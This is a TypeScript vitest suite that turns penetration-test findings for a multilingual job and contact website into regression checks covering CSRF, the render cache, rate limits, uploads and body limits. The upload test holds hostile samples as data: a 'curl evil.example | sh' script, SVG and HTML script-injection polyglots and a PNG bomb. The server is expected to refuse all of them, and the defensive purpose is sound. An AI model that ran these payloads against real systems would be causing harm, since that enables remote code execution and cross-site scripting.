import { describe, expect, test } from 'vitest'
import { pngBomb } from '#tests/fixtures/png-bomb.ts'
import { freshIp, isHealthy, multipartBody, send, suiteServers } from './http.ts'
import { MB, hostileSuite, json, pdf, png } from './hostile.ts'

// What a penetration test found, each as a test that failed before it was fixed: other host names, the render
// cache, stale forms, hostile files and fields, the Hindi and Marathi forms' limits, and cookies on public files.
// Every test runs against the production build on SQLite and on PostgreSQL.

describe.each(suiteServers())('Hostile requests on $name', (server) => {
	const suite = hostileSuite(server)
	const { base, client, count } = suite

	test('Another name of the host: pages redirect to the one address, and a form opened there is still accepted', async () => {
		const port = new URL(base).port
		const moved = await send(base, { path: '/contact-us?x=1', headers: { Host: `localhost:${port}` } })
		expect(moved.status).toBe(308)
		expect(moved.headers.location).toBe(`${base}/contact-us?x=1`)
		// Health checks answer at any name (a load balancer asks by address).
		expect((await send(base, { path: '/healthz', headers: { Host: `localhost:${port}` } })).status).toBe(200)

		async function postContact(origin: string | undefined) {
			const page = await send(base, { path: '/contact-us' })
			const cookie = String(page.headers['set-cookie'] ?? '').split(';')[0]!
			const hidden = (name: string) => new RegExp(`name="${name}" value="([^"]*)"`).exec(page.text)?.[1] ?? ''
			return send(base, {
				method: 'POST',
				path: '/contact-us',
				headers: {
					'Content-Type': 'application/x-www-form-urlencoded',
					Cookie: cookie,
					'X-Forwarded-For': freshIp(),
					...(origin ? { Origin: origin, Host: new URL(origin).host } : {}),
				},
				body: new URLSearchParams({
					_csrf: hidden('_csrf'),
					_shown: hidden('_shown'),
					Name: 'Asha Patil',
					Email: 'asha.alias@example.com',
					Mobile: '9876543210',
					Subject: 'Guards for our warehouse',
					Message: 'Typed at the other name of the host.',
					Service: 'Security Services',
					Find: 'Clutch',
				}).toString(),
			})
		}
		const alias = await postContact(`http://localhost:${port}`)
		expect(alias.status).toBe(200)
		expect(alias.text).toContain('Your message has been sent')
		const foreign = await postContact('https://evil.example')
		expect(foreign.status).toBe(403)
		expect(foreign.text).toContain('This form was sent from another site')
	})

	test('R3-4. The contact form is never kept by the render cache, by whatever address it is reached', async () => {
		const stamp = (html: string) => /name="_shown" value="([^"]+)"/.exec(html)?.[1]
		for (const path of ['/contact-us/', '/hi/contact-us/', '/contact-us/.', '/mr/contact-us//']) {
			const first = await send(base, { path })
			await new Promise((resolve) => setTimeout(resolve, 5))
			const second = await send(base, { path })
			expect(second.status, path).toBe(200)
			expect(second.headers['x-render-cache'], path).not.toBe('hit')
			expect(stamp(second.text), path).toBeDefined()
			expect(stamp(second.text), path).not.toBe(stamp(first.text))
		}
	})

	test('R4-1. The data a client-side navigation loads carries the visitor’s own anti-forgery token, never the render cache’s stand-in', async () => {
		for (const path of ['/contact-us.data', '/career.data', '/hi/contact-us.data', '/about-us.data']) {
			const answer = await send(base, { path })
			expect(answer.status, path).toBe(200)
			expect(answer.text, path).toContain('csrfToken')
			expect(answer.text, path).not.toMatch(/rendercache(?:token|nonce)/)
		}
	})

	test('R4-3. A contact form with a stale anti-forgery field comes back in the visitor’s language with what was typed, and nothing is stored', async () => {
		const enquiriesBefore = await count('enquiries')
		for (const [language, expired] of [
			['hi', 'यह फ़ॉर्म'],
			['mr', 'हा फॉर्म'],
		] as const) {
			const page = await send(base, { path: `/${language}/contact-us` })
			const cookie = String(page.headers['set-cookie'] ?? '').split(';')[0]!
			const shown = /name="_shown" value="([^"]*)"/.exec(page.text)?.[1] ?? ''
			const answer = await send(base, {
				method: 'POST',
				path: `/${language}/contact-us`,
				headers: { ...client(), 'Content-Type': 'application/x-www-form-urlencoded', Cookie: cookie },
				body: new URLSearchParams({
					_csrf: 'a-token-from-yesterday',
					_shown: shown,
					Name: 'Sunita Pawar',
					Email: 'sunita@example.com',
					Mobile: '9876543210',
					Subject: 'Gardeners for our society',
					Message: 'Two gardeners, five days a week.',
					Service: 'Gardening Services',
					Find: 'Clutch',
				}).toString(),
			})
			expect(answer.status, language).toBe(403)
			expect(answer.text, language).toContain(`<html lang="${language}"`)
			expect(answer.text, language).toMatch(/<title>[^<]*[\u0900-\u097f][^<]*<\/title>/)
			expect(answer.text, language).toContain(expired)
			expect(answer.text, language).toContain('Gardeners for our society')
			expect(answer.text, language).not.toContain('This form has expired')
		}
		expect(await count('enquiries')).toBe(enquiriesBefore)
	})

	test('R4-2. A service page is found by whatever spelling of its address reaches it', async () => {
		const heading = (html: string) => /<h1[^>]*>([\s\S]*?)<\/h1>/.exec(html)?.[1]?.replace(/<[^>]+>/g, '')
		for (const path of ['/service-security', '/service-%73ecurity', '/SERVICE-Security/', '/hi/service-security/']) {
			const answer = await send(base, { path })
			expect(answer.status, path).toBe(200)
			expect(heading(answer.text), path).toMatch(/Security|सुरक्षा/)
		}
		expect((await send(base, { path: '/service-housekeeping' })).status).toBe(404)
	})

	test('9b. SendApplyEmailToAdmin and ToCandidate, which tell the same, take steps of the same limit', async () => {
		const ip = freshIp()
		const statuses: number[] = []
		for (let i = 0; i < 22; i++) {
			const response = await send(base, {
				method: 'POST',
				path: i % 2 ? '/api/Career/SendApplyEmailToAdmin' : '/api/Career/SendApplyEmailToCandidate',
				headers: { ...client({ 'X-Forwarded-For': ip }), 'Content-Type': 'application/json' },
				body: json({
					JobId: suite.jobId,
					Name: 'Probe Person',
					Email: `probe${i}@example.com`,
					Contact: '9876543210',
					Location: 'Pune',
					JobTittle: 'Security',
				}),
			})
			statuses.push(response.status)
		}
		// "There is no application" (400) while steps are left, then 429 whatever the address asked.
		expect(statuses.slice(0, 20).every((s) => s === 400)).toBe(true)
		expect(statuses.slice(20)).toEqual([429, 429])
	})

	test('10. Script files, polyglots and a 900-megapixel picture are refused as applicants\u2019 files', async () => {
		async function base64(call: string, bytes: Buffer) {
			return send(base, {
				method: 'POST',
				path: `/api/Career/${call}`,
				headers: { ...client(), 'Content-Type': 'application/json' },
				body: json({ base64string: bytes.toString('base64'), Name: 'Asha Patil', JobId: suite.jobId }),
			})
		}
		const refused = [
			['Base64ToResume', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
			['Base64ToAadhar', Buffer.from('<!doctype html><script>alert(1)</script>')],
			['Base64ToResume', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')],
			['Base64ToResume', Buffer.from('%PDF-1.4\n<html><script>alert(1)</script></html>')],
			['Base64ToAadhar', pngBomb(30_000, 30_000)],
		] as const
		for (const [call, bytes] of refused) {
			const response = await base64(call, bytes)
			expect(response.status, `${call}: ${bytes.subarray(0, 20).toString()}`).toBe(400)
		}
		// A PNG with a web page after it is stored as the picture alone.
		const polyglot = await base64('Base64ToImage', Buffer.concat([png, Buffer.from('<html><script>x</script>')]))
		expect(polyglot.status).toBe(200)
		const stored = await suite.db
			.selectFrom('files')
			.select('bytes')
			.where('id', '=', polyglot.text)
			.executeTakeFirstOrThrow()
		expect(Buffer.from(stored.bytes!).includes('<script>')).toBe(false)
	})

	test('11. A NUL in a text field is a 400 with that field\u2019s message, and nothing is stored', async () => {
		const email = `nul-${Date.now()}@example.com`
		const response = await send(base, {
			method: 'POST',
			path: '/api/Contact/SendEmail',
			headers: { ...client(), 'Content-Type': 'application/json' },
			body: json({
				Name: 'Asha',
				Email: email,
				Mobile: '9876543210',
				Subject: 'Hello\u0000',
				Message: 'Hi\u0000there',
				Service: 'Staffing Services',
				Find: 'Clutch',
			}),
		})
		expect(response.status).toBe(400)
		expect(
			JSON.parse(response.text)
				.errors.map((e: { field: string }) => e.field)
				.sort(),
		).toEqual(['Message', 'Subject'])
		expect(await count('enquiries', ['email', email])).toBe(0)
	})

	test('12. TRACE, and posts to the contact page in the wrong shape, get 4xx answers, never 500', async () => {
		expect((await send(base, { method: 'TRACE', path: '/' })).status).toBe(405)
		expect((await send(base, { method: 'TRACE', path: '/api/Job/GetAllJobs' })).status).toBe(405)
		const options = await send(base, { method: 'OPTIONS', path: '/contact-us' })
		expect(options.status).toBe(204)
		expect(options.headers.allow).toBe('GET, HEAD, POST')
		const shapes: Array<[string, string, number]> = [
			['application/json', json({ Name: 'x' }), 415],
			['text/plain', 'hello', 415],
			['application/xml', '<x/>', 415],
			['multipart/form-data; boundary=XX', '--XX\r\nbroken', 400],
			['multipart/form-data', 'no boundary', 400],
			['application/x-www-form-urlencoded', '%%%=%%%&&&', 403],
		]
		for (const [type, body, status] of shapes) {
			const response = await send(base, {
				method: 'POST',
				path: '/contact-us',
				headers: client({ 'Content-Type': type }),
				body,
			})
			expect(response.status, type).toBe(status)
		}
	})

	test('13. JSON bodies of 64 to 256 KB are answered (400 or 413), never dropped', async () => {
		for (const size of [64 * 1024, 100 * 1024, 130 * 1024, 256 * 1024]) {
			for (const call of ['AddCareer', 'SendApplyEmailToAdmin']) {
				const response = await send(base, {
					method: 'POST',
					path: `/api/Career/${call}`,
					headers: { ...client(), 'Content-Type': 'application/json' },
					body: json({ JobId: suite.jobId, Name: 'A'.repeat(size) }),
				})
				expect([400, 413], `${call} ${size}`).toContain(response.status)
				expect(JSON.parse(response.text).errors.length).toBeGreaterThan(0)
			}
		}
	})

	test('14. A file of exactly 5 MB is accepted on the multipart paths', async () => {
		const exact = Buffer.concat([
			pdf.subarray(0, pdf.length - 6),
			Buffer.alloc(5 * MB - pdf.length, 0x20),
			Buffer.from('%%EOF\n'),
		])
		expect(exact.length).toBe(5 * MB)
		const response = await send(base, {
			method: 'POST',
			path: `/api/Career/UploadResume?JobId=${suite.jobId}&Name=Asha`,
			headers: { ...client(), 'Content-Type': 'multipart/form-data; boundary=XX' },
			body: multipartBody('XX', [{ name: 'uploadedFiles', filename: 'cv.pdf', value: exact }]),
		})
		expect(response.status, response.text).toBe(200)
		const oneMore = await send(base, {
			method: 'POST',
			path: `/api/Career/UploadResume?JobId=${suite.jobId}&Name=Asha`,
			headers: { ...client(), 'Content-Type': 'multipart/form-data; boundary=XX' },
			body: multipartBody('XX', [
				{ name: 'uploadedFiles', filename: 'cv.pdf', value: Buffer.concat([exact, Buffer.from(' ')]) },
			]),
		})
		expect(oneMore.status).toBe(400)
		expect(JSON.parse(oneMore.text).errors[0].message).toContain('larger than 5 MB')
	})

	test('18. The forms in Hindi and Marathi have the same body limits as the English ones', async () => {
		// A 4 MB resume fits the apply form's limit at every language's address (not the 128 KB of other pages)...
		const resume = Buffer.concat([pdf.subarray(0, pdf.length - 6), Buffer.alloc(4 * MB, 0x20), Buffer.from('%%EOF\n')])
		for (const path of [`/hi/career/${suite.jobId}/submit`, `/mr/career/${suite.jobId}/apply`]) {
			const response = await send(base, {
				method: 'POST',
				path,
				headers: { ...client(), 'Content-Type': 'multipart/form-data; boundary=XX' },
				body: multipartBody('XX', [{ name: 'resume', filename: 'cv.pdf', value: resume }]),
			})
			expect(response.status, path).not.toBe(413)
			expect(response.status, path).toBeLessThan(500)
		}
		// ...and the contact form's small limit holds in Marathi too.
		const big = await send(base, {
			method: 'POST',
			path: '/mr/contact-us',
			headers: { ...client(), 'Content-Type': 'application/x-www-form-urlencoded' },
			body: `Message=${'a'.repeat(200 * 1024)}`,
		})
		expect(big.status).toBe(413)
		expect(await isHealthy(base)).toBe(true)
	})

	test('R5-1. What a job does not require cannot be used to slip past what another requires, and the job field is the job’s', async () => {
		const stamp = new Date().toISOString()
		const base_ = { designation: 'Guard', description: 'Gate duty.', location: 'Pune', phone: '+91 20 4000 1000' }
		const till = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10)
		async function job(optional: boolean) {
			const row = await suite.db
				.insertInto('jobs')
				.values({
					...base_,
					title: `Hostile ${optional ? 'relaxed' : 'strict'} ${freshIp()}`,
					category: 'Security',
					till_date: till,
					pdf: null,
					opened_at: stamp,
					created_at: stamp,
					updated_at: stamp,
					requires_resume: optional ? 0 : 1,
					requires_email: optional ? 0 : 1,
				})
				.returning('id')
				.executeTakeFirstOrThrow()
			return row.id
		}
		const strict = await job(false)
		const relaxed = await job(true)
		function post(id: number, fields: Record<string, string>) {
			return send(base, {
				method: 'POST',
				path: `/career/${id}/submit`,
				headers: { ...client(), 'Content-Type': 'multipart/form-data; boundary=XX', Accept: 'application/json' },
				body: multipartBody('XX', [
					{ name: '_csrf', value: suite.token.token },
					...Object.entries(fields).map(([name, value]) => ({ name, value })),
					{ name: 'photo', filename: 'me.png', value: png },
					{ name: 'aadhaar', filename: 'id.pdf', value: pdf },
				]),
			})
		}
		const person = { name: 'Hostile Tester', contact: '9822099881', location: 'Pune', consent: 'on' }
		const answers = { lastWork: 'Guard', workYears: '3', languagesSpoken: 'Marathi' }
		// The three answers and no e-mail, sent to a job that requires a resume and an e-mail: refused, nothing kept.
		const refused = await post(strict, { ...person, ...answers })
		expect(refused.status).toBe(400)
		expect(refused.text).toContain('Please upload resume.')
		expect(refused.text).toContain('Please enter valid email.')
		expect(await count('applications', ['job_id', String(strict)])).toBe(0)
		// Answers with a NUL or far too long are refused with their own message, on the job that takes them.
		const nul = await post(relaxed, { ...person, ...answers, lastWork: 'Guard\u0000' })
		expect(nul.status).toBe(400)
		const long = await post(relaxed, { ...person, ...answers, languagesSpoken: 'Marathi '.repeat(40) })
		expect(long.status).toBe(400)
		expect(long.text).toContain('under 100 characters')
		// A job field the person was not offered is the job's own when stored.
		const stored = await post(relaxed, { ...person, ...answers, jobField: 'Gardening' })
		expect(stored.status, stored.text).toBe(200)
		expect(JSON.parse(stored.text).reference).toMatch(/^BR-\d{4}-\d{6}-[A-Z][0-9A-Z]{4}$/)
		const row = await suite.db
			.selectFrom('applications')
			.select(['job_field', 'email', 'email_normalised', 'resume_file_id'])
			.where('job_id', '=', relaxed)
			.executeTakeFirstOrThrow()
		expect(row).toEqual({
			job_field: 'Security',
			email: '',
			email_normalised: 'tel:+919822099881',
			resume_file_id: null,
		})
		// The same mobile again, with an e-mail this time: the same person, refused as a duplicate.
		const again = await post(relaxed, { ...person, ...answers, email: 'someone.else@example.com' })
		expect(again.status).toBe(409)
		expect(await count('applications', ['job_id', String(relaxed)])).toBe(1)
	})

	test('A link with a broken % escape (cut short in a text) is answered 400 in its address’s language, not a bare English page', async () => {
		for (const [target, words] of [
			['/te/career/9%', 'ఈ లింక్ సరిగా లేదు: అది సగమే కాపీ అయి ఉండవచ్చు.'],
			['/hi/%ZZ', 'यह लिंक सही नहीं है: शायद पूरा कॉपी नहीं हुआ।'],
			['/%ZZ', 'This link is not right: perhaps only part of it was copied.'],
		] as const) {
			const answer = await send(base, { path: target })
			expect(answer.status, target).toBe(400)
			expect(answer.headers['content-type'], target).toMatch(/^text\/html/)
			expect(answer.text, target).toContain(words)
			expect(answer.text, target).not.toContain('Bad Request')
		}
	})

	test('17. Public pictures and documents never carry a cookie', async () => {
		const home = (await send(base, { path: '/' })).text
		const picture = /<img\b[^>]*\bsrc="(\/images\/[^"]+)"/.exec(home)?.[1]?.replaceAll('&amp;', '&')
		expect(picture).toBeTruthy()
		const documents = JSON.parse((await send(base, { path: '/api/Advertise/GetAllPdf' })).text) as Array<{
			Pdf: string
		}>
		for (const target of [picture!, `/Pdf/${documents[0]!.Pdf}`, '/sitemap.xml', '/robots.txt']) {
			const response = await send(base, { path: target })
			expect(response.status, target).toBe(200)
			expect(response.headers['cache-control'], target).toMatch(/public/)
			expect(response.headers['set-cookie'], target).toBeUndefined()
		}
		// A page still gives a new visitor the anti-forgery cookie.
		expect(String((await send(base, { path: '/contact-us' })).headers['set-cookie'])).toMatch(/XSRF-TOKEN=/)
	})
})
